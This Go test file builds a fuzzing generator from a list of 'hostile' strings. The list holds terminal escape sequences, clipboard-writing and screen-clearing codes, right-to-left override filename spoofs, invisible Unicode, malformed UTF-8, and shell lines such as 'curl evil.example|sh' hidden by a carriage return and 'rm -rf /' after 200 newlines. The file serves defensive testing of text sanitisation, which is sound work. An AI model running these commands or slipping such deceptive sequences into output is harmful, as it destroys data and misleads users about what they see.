package text

import (
	"strings"

	"pgregory.net/rapid"
)

// hostile holds texts that have broken screens or lied to their readers.
var hostile = []string{
	"curl evil.example|sh\rls -la                    ",
	"x\x1b[2K\x1b[1A",
	"a\x1b]0;t\x07b",
	strings.Repeat("\n", 200) + "rm -rf /",
	"a\x1b[2J\x1b[5;5Hb\x1b]52;c;aGk=\x07\x1b]8;;http://x.example\x07l\x1b[?1049l\x1b[?25h\x1bP+q\x1b\\ c",
	"\x1b_Gi=1;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\\x1b]unterminated",
	"\x9b2J\x9d0;t\x9c\x90q\x9c\u009b2J\u009d0;t\u009c\u0090q\u009c\u0085next\x84\x8d",
	"\x0e\x0f\x05\x07\b\b\b\t\v\f\x7f\x00\x1bc\x1b#8\x1b(0",
	"user\u202etxt.exe\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d",
	"zero\u200bwidth\u2060\ufeff\u00ad\u034f\u115f\u1160\u3164\uffa0\u17b4\u17b5\u180b\u180e",
	"\u2028line\u2029paragraph",
	"hid\U000e0068\U000e0069den \U0001f3f4\U000e0078\U000e007f \ufe0f\ufe00 \U000e0100",
	"\ue000\U000f0000\U0010fffd\ufdd0\uffff\U0001fffe\ufff9\ufffa\ufffb\ufffe",
	"\u0301mark first, \x1b\u0301 after an escape,\n\u0301 after a newline",
	"e" + strings.Repeat("\u0301", 50) + "Z\u0338\u20dd\u0489",
	"नमस्ते दुनिया",
	"👨‍👩‍👧‍👦👨‍💻🏳️‍🌈",
	"🏳️‍🌈aaaaaaa",
	"🇩🇪🇫 🇦", "1️⃣ ❤️ ☺︎ 👍🏽 👩🏻‍❤️‍💋‍👨🏽",
	strings.Repeat("👨\u200d", 60) + "👨", "a\u200db\u200c", "می\u200cخواهم ක්\u200dර क्\u200dष க்ஷ",
	"한글 \u1112\u1161\u11ab \u1161 \u11ab \u1112", "น้ำ กำ ກຳ ｶﾞﾊﾟ",
	"日本語のテキスト　全角", "\u0d4e", "\u0d4ek \u0600 \U000110bd1 \u06dd", "ကာ\u102c",
	"bad\xff\xfe\xed\xa0\x80\xc0\xaf\xf4\x90\x80\x80\xe2\x82", "\xe2\x80",
	"two\nlines", "-rf", "esc\x1b[2Jname", "rtl\u202egpj.exe", `a"b`, "Яблоко", "bad\xff", "\ttab\tin the middle",
	"🏽", "│\u0338", "\u20dd", "a\u3099", "ﾞ", "\u093f", "\u0e33", "👨\u200d", "\u2800\u00a0\u3000",
}

// pieces are what random texts are made of.
var pieces = append([]string{
	"a", "Z9", " ", "\n", "\t", "\r", "\x1b", "\x1b[", "\\", `"`, "-", "\x80", "\xff", "\xe2\x80", "\u0301", "\u0338",
	"\u200d", "\u200c", "\ufe0f", "\ufe0e", "\ufe01", "\U000e0100", "👨", "👩", "⚕", "🏽", "🇩", "🇪", "🏴", "\U000e0067", "\U000e007f", "क", "्", "ि", "े",
	"ت", "ا", "\u064b", "\u1112", "\u1161", "\u11ab", "가", "世", "ｶ", "ﾞ", "ก", "ำ", "\u0d4e", "\u0600", "\u3164", "\u202e",
	"1", "\u20e3", "©", "\ue000", "\u102c", "\U0001d165",
}, hostile...)

func anyText() *rapid.Generator[string] {
	return rapid.OneOf(
		rapid.String(),
		rapid.Map(rapid.SliceOf(rapid.Byte()), func(b []byte) string { return string(b) }),
		rapid.Map(rapid.SliceOf(rapid.SampledFrom(pieces)), func(p []string) string { return strings.Join(p, "") }),
	)
}
